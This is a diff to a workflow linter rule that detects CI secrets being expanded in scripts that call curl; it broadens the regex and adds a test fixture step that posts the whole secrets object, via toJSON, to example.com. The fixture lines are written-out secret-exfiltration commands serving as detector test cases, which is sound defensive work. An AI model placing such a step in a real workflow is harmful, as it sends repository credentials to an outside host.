@@ -15,7 +15,7 @@ export const secretByCurl: Rule = {
   *check(live) {
     const script = at(live, 'run')
     const text = textOf(script) ?? ''
-    if (/\bcurl\b/u.test(text) && /\$\{\{[^}]*\bsecrets\./u.test(text))
+    if (/\bcurl\b/u.test(text) && /\$\{\{[^}]*\bsecrets\s*(?:\.|\[|\))/u.test(text))
       yield violated('A secret is expanded in a script that calls curl.', script)
   },
 
@@ -51,6 +51,15 @@ export const secretByCurl: Rule = {
             runs-on: ubuntu-latest
             steps:
               - run: curl -d "\${{ secrets.TOKEN }}" https://example.com
+      `,
+      workflow`
+        on: [push]
+        permissions: { contents: read }
+        jobs:
+          build:
+            runs-on: ubuntu-latest
+            steps:
+              - run: curl -d '\${{ toJSON(secrets) }}' https://example.com
       `,
     ],
     near: [
